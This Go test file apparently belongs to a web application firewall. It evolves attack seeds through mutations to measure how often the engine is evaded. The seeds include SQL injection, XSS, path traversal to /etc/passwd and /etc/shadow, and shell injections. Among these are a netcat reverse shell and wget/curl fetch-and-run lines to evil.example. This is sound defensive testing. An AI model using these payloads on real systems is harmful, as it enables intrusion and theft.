package engine_test

import (
	"bytes"
	"database/sql"
	"flag"
	"math/rand/v2"
	"net/url"
	"path"
	"strings"
	"testing"

	"golang.org/x/net/html"
	_ "modernc.org/sqlite"
	"mvdan.cc/sh/v3/syntax"

	"github.com/gabionhq/gabion/engine"
	"github.com/gabionhq/gabion/engine/internal/mutate"
	"github.com/gabionhq/gabion/engine/rule"
)

// The whole run is: go test ./engine -run Evasion -evasion.seeds 500 -evasion.rounds 1000
var (
	evasionSeeds  = flag.Int("evasion.seeds", 50, "walks per language")
	evasionRounds = flag.Int("evasion.rounds", 50, "mutations per walk")
)

// maxEvaded is the share of walks that may end in an attack that passes, in
// percent.
const maxEvaded = 5

// evade walks from attacks to what the engine scores lowest, one mutation at
// a time, among what the oracle still takes for an attack.
func evade(t *testing.T, seeds []string, by []mutate.Mutator, isAttack func(string) bool) {
	t.Helper()
	e := engine.New(engine.Options{})
	evaded, valid, passed := 0, 0, map[string]bool{}
	for walk := range *evasionSeeds {
		r := rand.New(rand.NewPCG(1, uint64(walk)))
		v := seeds[walk%len(seeds)]
		if !isAttack(v) {
			t.Fatalf("the seed is no attack: %q", v)
		}
		lowest := score(e, v)
		for range *evasionRounds {
			m := by[r.IntN(len(by))].Apply(r, v)
			if m == v || len(m) > 1000 || !isAttack(m) {
				continue
			}
			valid++
			s := score(e, m)
			if s.Score <= lowest.Score {
				v, lowest = m, s
			}
			if !lowest.Attack {
				break
			}
		}
		if !lowest.Attack {
			evaded++
			passed[v] = true
		}
	}
	for v := range passed {
		t.Logf("passes: %q", v)
	}
	t.Logf("%d of %d walks evade, with %d attacks tried", evaded, *evasionSeeds, valid)
	if valid < *evasionSeeds {
		t.Errorf("only %d mutations were attacks", valid)
	}
	if evaded*100 > *evasionSeeds*maxEvaded {
		t.Errorf("%d of %d walks evade, more than %d %%", evaded, *evasionSeeds, maxEvaded)
	}
}

func score(e *engine.Engine, v string) engine.Verdict {
	tx := e.Begin(nil, engine.Env{Mode: rule.Block})
	defer tx.Close()
	tx.Headers(&engine.Head{Method: []byte("GET"), Target: []byte("/items?id=" + url.QueryEscape(v)), Host: []byte("shop.example")})
	return tx.End()
}

func TestEvasionSQL(t *testing.T) {
	db, err := sql.Open("sqlite", ":memory:")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	db.SetMaxOpenConns(1)
	if _, err := db.Exec("create table users (id, name, pass); create table items (id, name)"); err != nil {
		t.Fatal(err)
	}
	for _, context := range []struct {
		name, query string
		seeds       []string
	}{
		{"number", "select id, name from items where id = \x00", []string{
			"1 or 1=1", "1 or 1=1-- ", "1 union select name,pass from users", "1 union all select name,pass from users-- ",
			"1 and (select count(*) from users)>0", "0 union select 1,sqlite_version()", "1 order by 2-- ", "1 or exists(select 1 from users)",
		}},
		{"string", "select id, name from items where name = '\x00'", []string{
			"x' or 1=1-- ", "x' or 'a'='a", "x' union select name,pass from users-- ", "x' and 1=1 union select id,pass from users-- ",
			"x' or name like '%a", "x' and (select substr(pass,1,1) from users)='a", "x'; delete from users-- ", "x'||(select pass from users)||'",
		}},
	} {
		t.Run(context.name, func(t *testing.T) {
			evade(t, context.seeds, mutate.SQL, func(v string) bool {
				tx, err := db.Begin()
				if err != nil {
					t.Fatal(err)
				}
				defer tx.Rollback()
				_, err = tx.Exec(strings.Replace(context.query, "\x00", v, 1))
				return err == nil
			})
		})
	}
}

func TestEvasionMarkup(t *testing.T) {
	evade(t, []string{
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", `"><img src=x onerror=alert(1)>`,
		"<a href=javascript:alert(1)>x</a>", "<details open ontoggle=alert(1)>", "<body onload=fetch('//evil.example')>",
		"<iframe src=javascript:alert(1)>", "<input autofocus onfocus=confirm(1)>",
	}, mutate.Markup, runsScript)
}

// runsScript reports whether a browser's tokeniser sees a script, a handler
// or an address that runs script, which calls what the seeds do.
func runsScript(v string) bool {
	for z, in := html.NewTokenizer(strings.NewReader(v+">")), false; ; {
		switch z.Next() {
		case html.ErrorToken:
			return false
		case html.TextToken:
			if in && calls(string(z.Raw())) {
				return true
			}
		case html.StartTagToken, html.SelfClosingTagToken:
			name, more := z.TagName()
			in = bytes.Equal(name, []byte("script"))
			for more {
				var k, a []byte
				k, a, more = z.TagAttr()
				address := (string(k) == "href" || string(k) == "src") && strings.HasPrefix(strings.ToLower(string(a)), "javascript:")
				if (address || bytes.HasPrefix(k, []byte("on"))) && calls(string(a)) {
					return true
				}
			}
		}
	}
}

// calls reports whether script still has the name of a function; script minds
// case.
func calls(script string) bool {
	for _, name := range []string{"alert", "confirm", "fetch", "`al`+`ert`"} {
		if strings.Contains(script, name) {
			return true
		}
	}
	return false
}

func TestEvasionShell(t *testing.T) {
	parser := syntax.NewParser()
	evade(t, []string{
		";cat /etc/passwd", "x;id;uname -a", ";wget http://evil.example/x", "x; nc -e /bin/sh 10.0.0.1 99", ";sleep 10;whoami", ";cat /etc/passwd;ls -la /",
		"$(cat /etc/passwd)", "x;curl http://evil.example/x;sh x",
	}, mutate.Shell, func(v string) bool {
		f, err := parser.Parse(strings.NewReader("ping "+v), "")
		if err != nil {
			return false
		}
		commands := 0
		syntax.Walk(f, func(n syntax.Node) bool {
			if c, ok := n.(*syntax.CallExpr); ok && len(c.Args) > 0 {
				commands++
			}
			return true
		})
		return commands > 1
	})
}

func TestEvasionPath(t *testing.T) {
	evade(t, []string{"../../../../../../etc/passwd", "../../../../../../../../proc/self/environ", "images/../../../../../../../etc/shadow"}, mutate.Path, func(v string) bool {
		decoded, err := url.PathUnescape(v)
		if err != nil {
			return false
		}
		switch path.Join("/srv/www/static/img", decoded) {
		case "/etc/passwd", "/proc/self/environ", "/etc/shadow":
			return true
		}
		return false
	})
}
